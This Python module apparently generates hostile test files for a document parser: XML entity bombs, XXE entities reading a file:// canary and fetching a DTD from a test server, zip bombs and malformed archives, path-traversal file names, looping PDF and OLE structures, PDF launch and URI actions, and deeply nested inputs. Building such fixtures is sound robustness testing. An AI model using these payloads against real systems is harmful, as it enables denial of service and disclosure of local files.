"Files made to hurt: each is a small program's worth of malice, made here with plain bytes or a real library."

import io
import json
import struct
import zipfile
import zlib

import docx
import openpyxl
import pptx
from pptx.util import Inches

WORD = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
LAUGHS = (
    "<!DOCTYPE l [<!ENTITY a0 'ha'>" + "".join(f"<!ENTITY a{n} '{f'&a{n - 1};' * 10}'>" for n in range(1, 12)) + "]>"
)
SWELLING = f"<!DOCTYPE l [<!ENTITY a '{'ha' * 50_000}'>]>"


def zip_of(parts: dict[str, bytes | str], how: int = zipfile.ZIP_DEFLATED) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", how, compresslevel=1) as archive:
        for name, content in parts.items():
            archive.writestr(name, content)
    return out.getvalue()


def parts_of_zip(data: bytes) -> dict[str, bytes]:
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        return {name: archive.read(name) for name in archive.namelist()}


def saved(document) -> bytes:
    out = io.BytesIO()
    document.save(out)
    return out.getvalue()


def docx_with(parts: dict[str, bytes | str]) -> bytes:
    document = docx.Document()
    document.add_paragraph("A plain paragraph.")
    return zip_of(parts_of_zip(saved(document)) | parts)


def xlsx_with(parts: dict[str, bytes | str]) -> bytes:
    book = openpyxl.Workbook()
    book.active.append(["tea", 3])
    return zip_of(parts_of_zip(saved(book)) | parts)


def sheet(rows: str, rest: str = "", size: str = "A1") -> str:
    space = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
    return f'<worksheet xmlns="{space}"><dimension ref="{size}"/><sheetData>{rows}</sheetData>{rest}</worksheet>'


def open_document(kind: str, body: str, head: str = "") -> bytes:
    spaces = " ".join(
        f'xmlns:{short}="urn:oasis:names:tc:opendocument:xmlns:{short}:1.0"' for short in ("office", "text", "table")
    )
    content = (
        f"<?xml version='1.0'?>{head}<office:document-content {spaces}><office:body>{body}</office:body>"
        "</office:document-content>"
    )
    mimetype = f"application/vnd.oasis.opendocument.{kind}"
    return zip_of({"mimetype": mimetype, "content.xml": content})


def epub_with(hrefs: list[str], spine: int = 1, page: str = "<p>A page.</p>") -> bytes:
    items = "".join(
        f'<item id="i{n}" href="{href}" media-type="application/xhtml+xml"/>' for n, href in enumerate(hrefs)
    )
    refs = "".join(f'<itemref idref="i{n}"/>' for n in range(len(hrefs))) * spine
    package = (
        f'<package xmlns="http://www.idpf.org/2007/opf"><metadata/><manifest>{items}</manifest>'
        f"<spine>{refs}</spine></package>"
    )
    container = (
        '<container xmlns="urn:oasis:names:tc:opendocument:xmlns:container"><rootfiles>'
        '<rootfile full-path="book.opf"/></rootfiles></container>'
    )
    html = f'<html xmlns="http://www.w3.org/1999/xhtml"><body>{page}</body></html>'
    return zip_of(
        {
            "mimetype": "application/epub+zip",
            "META-INF/container.xml": container,
            "book.opf": package,
            "page.xhtml": html,
        }
    )


def pdf_of(objects: dict[int, str | bytes], trailer: str = "/Root 1 0 R", after: bytes = b"") -> bytes:
    "Objects without a table of offsets: readers look for them."
    body = b"".join(
        b"%d 0 obj\n%s\nendobj\n" % (number, value if isinstance(value, bytes) else value.encode())
        for number, value in objects.items()
    )
    return b"%PDF-1.5\n" + body + b"trailer<<" + trailer.encode() + b">>\n" + after


def page_objects(
    content: bytes, resources: str = "/Font<</F1 5 0 R>>", box: str = "0 0 612 792", how: str = ""
) -> dict:
    return {
        1: "<</Type/Catalog/Pages 2 0 R>>",
        2: "<</Type/Pages/Kids[3 0 R]/Count 1>>",
        3: f"<</Type/Page/Parent 2 0 R/MediaBox[{box}]/Contents 4 0 R/Resources<<{resources}>>>>",
        4: b"<</Length %d%s>>stream\n%s\nendstream" % (len(content), how.encode(), content),
        5: "<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>",
    }


TEXT = b"BT /F1 12 Tf 72 720 Td (A line of words) Tj ET"


def pdf_bomb() -> bytes:
    packer = zlib.compressobj(1)
    blanks = b" " * 2**20
    content = b"".join([*(packer.compress(blanks) for _ in range(1500)), packer.flush()])
    return pdf_of(page_objects(content, how="/Filter/FlateDecode"))


def form_loop() -> bytes:
    objects = page_objects(TEXT + b" /X Do", "/Font<</F1 5 0 R>>/XObject<</X 6 0 R>>")
    objects[6] = (
        "<</Type/XObject/Subtype/Form/BBox[0 0 9 9]/Resources<</XObject<</X 6 0 R>>>>/Length 5>>"
        "stream\n/X Do\nendstream"
    )
    return pdf_of(objects)


def many_pages() -> bytes:
    objects = page_objects(TEXT)
    objects[2] = f"<</Type/Pages/Kids[{'3 0 R ' * 20_000}]/Count 2000000000>>"
    return pdf_of(objects)


def page_tree_loop() -> bytes:
    return pdf_of(page_objects(TEXT) | {2: "<</Type/Pages/Kids[2 0 R 2 0 R 3 0 R]/Count 3>>"})


def overlapping_zip() -> bytes:
    "One part of 10 MB that a hundred entries point to."
    one = zip_of({"word/document.xml": b" " * 10 * 2**20})
    start = one.rindex(b"PK\5\6")
    entry = one[one.index(b"PK\1\2") : start]
    directory = b"".join(entry.replace(b"document.xml", b"d%07d.xml" % n) for n in range(100))
    end = bytearray(one[start:])
    struct.pack_into("<HHI", end, 8, 100, 100, len(directory))
    return one[: one.index(b"PK\1\2")] + directory + bytes(end)


def lying_zip() -> bytes:
    "It announces ten bytes and holds fifty million."
    data = bytearray(docx_with({"word/document.xml": b"<a>" + b" " * 50_000_000 + b"</a>"}))
    at = data.rindex(b"word/document.xml", 0, data.rindex(b"PK\5\6")) - 46 + 24
    struct.pack_into("<I", data, at, 10)
    return bytes(data)


def locked_zip() -> bytes:
    data = bytearray(docx_with({}))
    at = data.index(b"PK\1\2")
    data[at + 8] |= 1
    return bytes(data)


def nested_zips(depth: int = 6) -> bytes:
    data = zip_of({"0.txt": b"0" * 10 * 2**20})
    for level in range(depth):
        data = zip_of({f"{level}{n}.zip": data for n in range(10)})
    return data


def deep_slides() -> bytes:
    show = pptx.Presentation()
    slide = show.slides.add_slide(show.slide_layouts[6])
    slide.shapes.add_textbox(Inches(1), Inches(1), Inches(1), Inches(1)).text_frame.text = "Words"
    parts = parts_of_zip(saved(show))
    text = parts["ppt/slides/slide1.xml"].decode()
    group = "<p:grpSp><p:nvGrpSpPr><p:cNvPr id='1' name='g'/><p:cNvGrpSpPr/><p:nvPr/></p:nvGrpSpPr><p:grpSpPr/>"
    parts["ppt/slides/slide1.xml"] = (
        text.replace("<p:sp>", group * 3000 + "<p:sp>", 1)
        .replace("</p:sp>", "</p:sp>" + "</p:grpSp>" * 3000, 1)
        .encode()
    )
    return zip_of(parts)


def png(width: int, height: int) -> bytes:
    def piece(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))

    head = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n" + piece(b"IHDR", head) + piece(b"IDAT", zlib.compress(bytes(1000))) + piece(b"IEND", b"")
    )


def deep_mail(depth: int = 3000) -> bytes:
    heads = "".join(f'Content-Type: multipart/mixed; boundary="b{n}"\n\n--b{n}\n' for n in range(depth))
    return f"From: a@example.org\nSubject: deep\nMIME-Version: 1.0\n{heads}Content-Type: text/plain\n\nwords\n".encode()


def escaping_mail() -> bytes:
    part = '--b\nContent-Type: text/plain; name="{0}"\nContent-Disposition: attachment; filename="{0}"\n\nwords\n'
    names = ["../../x.txt", "/etc/passwd", "..", "a\\..\\..\\b.txt", "", "x\x00y.txt", "con.txt", "a" * 5000 + ".txt"]
    body = "".join(part.format(name) for name in names)
    head = "From: a@example.org\nSubject: names\nMIME-Version: 1.0\nContent-Type: multipart/mixed; boundary=b\n\n"
    return f"{head}--b\nContent-Type: text/plain\n\nhello\n{body}--b--\n".encode()


def ole_loop() -> bytes:
    "A container whose table of sectors leads in circles."
    head = bytearray(512)
    head[:8] = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"
    struct.pack_into("<HHHHH", head, 24, 0x3E, 3, 0xFFFE, 9, 6)
    struct.pack_into("<IIIIIIIII", head, 44, 1, 1, 0, 4096, 1, 1, 0, 0xFFFFFFFE, 0)
    struct.pack_into("<I", head, 76, 0)
    table = struct.pack("<128I", *([1, 0] * 64))
    name = "__properties_version1.0".encode("utf-16-le")
    entry = name.ljust(64, b"\0") + struct.pack("<HBB", len(name) + 2, 5, 1) + bytes(60)
    return bytes(head) + table + entry * 4


def hostile_files(canary: str, server: str) -> dict[str, bytes]:  # name → content; they point to a file and to a server
    "All of them."
    outside = f'<!DOCTYPE a [<!ENTITY x SYSTEM "file://{canary}"><!ENTITY % y SYSTEM "{server}/y.dtd"> %y;]>'
    links = (
        f'<base href="{server}/"><link rel=stylesheet href=a.css><img src="file://{canary}"><img src="{server}/i.png">'
        f'<iframe src="file://{canary}"></iframe><object data="{server}/o"></object><embed src="{server}/e">'
        f'<meta http-equiv=refresh content="0;url={server}/r"><script src="{server}/s.js"></script>'
    )
    linked = (
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r9" '
        'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/image" '
        f'Target="file://{canary}" TargetMode="External"/></Relationships>'
    )
    far = sheet(
        '<row r="1"><c r="A1"><v>1</v></c></row><row r="1048576"><c r="XFD1048576"><v>2</v></c></row>',
        size="A1:XFD1048576",
    )
    merged = sheet(
        '<row r="1"><c r="A1"><v>1</v></c></row>', '<mergeCells count="1"><mergeCell ref="A1:XFD1048576"/></mergeCells>'
    )
    strings = (
        f'<sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><si><t>{"x" * 2**20}</t></si></sst>'
    )
    shared = sheet("".join(f'<row r="{n}"><c r="A{n}" t="s"><v>0</v></c></row>' for n in range(1, 3001)))
    word = f"<w:document {WORD}><w:body>"
    cells = (
        '<table:table table:name="t"><table:table-row table:number-rows-repeated="1000000000"><table:table-cell '
        'table:number-columns-repeated="1000000000"><text:p>x</text:p></table:table-cell></table:table-row></table:table>'
    )
    run = b"/F1 12 Tf (x) Tj "
    return {
        "bomb.docx": docx_with({"word/media/a.bin": bytes(400 * 2**20)}),
        "overlap.docx": overlapping_zip(),
        "nested.zip": nested_zips(),
        "nested.docx": docx_with({"word/embeddings/a.zip": nested_zips()}),
        "entries.docx": docx_with({f"word/{n}.xml": b"" for n in range(20_000)}),
        "names.docx": docx_with({"../../x.xml": b"<a/>"}),
        "liar.docx": lying_zip(),
        "locked.docx": locked_zip(),
        "half.docx": docx_with({})[:9000],
        "deep.docx": docx_with({"word/document.xml": word + "<w:p>" * 100_000}),
        "laughs.docx": docx_with({"word/document.xml": LAUGHS + f"{word}<w:p><w:r><w:t>&a11;</w:t></w:r></w:p>"}),
        "linked.docx": docx_with({"word/_rels/document.xml.rels": linked}),
        "outside.docx": docx_with(
            {"word/document.xml": outside + f"{word}<w:p><w:r><w:t>&x;</w:t></w:r></w:p></w:body></w:document>"}
        ),
        "far.xlsx": xlsx_with({"xl/worksheets/sheet1.xml": far}),
        "merged.xlsx": xlsx_with({"xl/worksheets/sheet1.xml": merged}),
        "shared.xlsx": xlsx_with({"xl/worksheets/sheet1.xml": shared, "xl/sharedStrings.xml": strings}),
        "outside.xlsx": xlsx_with({"xl/workbook.xml": outside + "<workbook>&x;</workbook>"}),
        "deep.pptx": deep_slides(),
        "repeat.ods": open_document("spreadsheet", f"<office:spreadsheet>{cells}</office:spreadsheet>"),
        "laughs.odt": open_document("text", "<office:text><text:p>&a11;</text:p></office:text>", LAUGHS),
        "outside.odt": open_document("text", "<office:text><text:p>&x;</text:p></office:text>", outside),
        "outside.epub": epub_with([canary, f"../../..{canary}", f"file://{canary}", f"{server}/p.xhtml", "page.xhtml"]),
        "again.epub": epub_with(["page.xhtml"] * 50, spine=2000, page="<p>word</p>" * 200),
        "laughs.svg": (LAUGHS + '<svg xmlns="http://www.w3.org/2000/svg"><text>&a11;</text></svg>').encode(),
        "outside.svg": (outside + '<svg xmlns="http://www.w3.org/2000/svg"><text>&x;</text></svg>').encode(),
        "laughs.xml": (LAUGHS + "<l b='&a11;'>&a11;</l>").encode(),
        "swelling.xml": (SWELLING + f"<l>{'&a;' * 50_000}</l>").encode(),
        "outside.xml": (outside + "<a>&x;</a>").encode(),
        "include.xml": '<a xmlns:xi="http://www.w3.org/2001/XInclude">'
        f'<xi:include href="file://{canary}" parse="text"/></a>'.encode(),
        "outside.html": (outside + "<html><body><p>words &x;</p></body></html>").encode(),
        "links.html": (links + "<p>words").encode(),
        "deep.html": b"<div>" * 200_000 + b"words",
        "tables.html": b"<table><tr><td>" * 2000 + b"words",
        "spans.html": b"<table><tr><td rowspan=65534 colspan=1000>a<td>b</tr>" + b"<tr><td>c" * 3000 + b"</table>",
        "attributes.html": b"<p " + b"".join(b"a%d=1 " % n for n in range(200_000)) + b">words",
        "comments.html": b"<!--" * 200_000 + b"words",
        "loop.pdf": page_tree_loop(),
        "bomb.pdf": pdf_bomb(),
        "forms.pdf": form_loop(),
        "pages.pdf": many_pages(),
        "huge.pdf": pdf_of(page_objects(TEXT, box="0 0 1e9 1e9")),
        "offsets.pdf": pdf_of(page_objects(TEXT), "/Root 1 0 R/Prev 9/Size 99", b"startxref\n9\n%%EOF"),
        "letters.pdf": pdf_of(page_objects(b"BT " + run * 200_000 + b"ET")),
        "actions.pdf": pdf_of(
            page_objects(TEXT)
            | {
                1: f"<</Type/Catalog/Pages 2 0 R/OpenAction<</S/URI/URI({server}/u)>>"
                f"/AA<</O<</S/Launch/F({canary})>>>>>>"
            }
        ),
        "huge.png": png(200_000, 200_000),
        "deep.json": b"[" * 1_000_000,
        "number.json": b'{"a": ' + b"9" * 2_000_000 + b"}",
        "quote.csv": b'a,b\n"' + b"x,y\n" * 100_000,
        "wide.csv": b"," * 500_000 + b"\n" + b"," * 500_000,
        "token.txt": b"x" * 10_000_000,
        "marks.txt": "\u202e\u200d\u0301".encode() * 100_000 + b"words",
        "halves.txt": b"\xff\xfe" + b"\x00\xd8" * 50_000,
        "traps.md": b"[" * 50_000 + b"*a **b " * 20_000 + b"<!--" * 20_000 + b"![](" * 20_000,
        "aliases.md": b"---\na: &a [x,x]\n"
        + b"".join(b"%c: &%c [*%c,*%c,*%c,*%c]\n" % (c, c, *[c - 1] * 4) for c in range(98, 120))
        + b"---\nwords\n",
        "deep.md": b"---\na: " + b"{b: " * 20_000 + b"\n---\n" + b">" * 50_000 + b" words",
        "traps.rst": b"=\n" * 50_000 + b"*" * 50_000,
        "deep.py": b"x = " + b"(" * 100_000,
        "deep.js": b"f(" * 100_000,
        "cells.ipynb": json.dumps(
            {"nbformat": 4, "cells": [{"cell_type": "markdown", "source": "a"}] * 50_000}
        ).encode(),
        "deep.eml": deep_mail(),
        "names.eml": escaping_mail(),
        "many.mbox": b"From a@example.org Mon Jan  1 10:00:00 2024\nFrom: a@example.org\nSubject: s\n\nwords\n\n"
        * 3000,
        "circle.msg": ole_loop(),
        "circle.doc": ole_loop().replace(
            "__properties_version1.0".encode("utf-16-le"), "WordDocument".encode("utf-16-le").ljust(46, b"\0")
        ),
        "deep.rtf": b"{\\rtf1 " + b"{" * 200_000 + b"words",
        "bin.rtf": b"{\\rtf1 words \\bin2000000000 }",
        "deep.tex": b"\\begin{a}" * 20_000 + b"{" * 100_000 + b"words",
        "times.srt": b"1\n99:99:99,999 --> 00:00:00,000\n" * 50_000,
        "bomb.gz": zlib.compress(bytes(2**20)),
    }


HOSTILE_NAMES = """
actions.pdf again.epub aliases.md attributes.html bin.rtf bomb.docx bomb.gz bomb.pdf cells.ipynb circle.doc
circle.msg comments.html deep.docx deep.eml deep.html deep.js deep.json deep.md deep.pptx deep.py deep.rtf
deep.tex entries.docx far.xlsx forms.pdf half.docx halves.txt huge.pdf huge.png include.xml laughs.docx
laughs.odt laughs.svg laughs.xml letters.pdf liar.docx linked.docx links.html locked.docx loop.pdf many.mbox
marks.txt merged.xlsx names.docx names.eml nested.docx nested.zip number.json offsets.pdf outside.docx
outside.epub outside.html outside.odt outside.svg outside.xlsx outside.xml overlap.docx pages.pdf quote.csv
repeat.ods shared.xlsx spans.html swelling.xml tables.html times.srt token.txt traps.md traps.rst wide.csv
""".split()  # the files are made once, when the first test asks for them
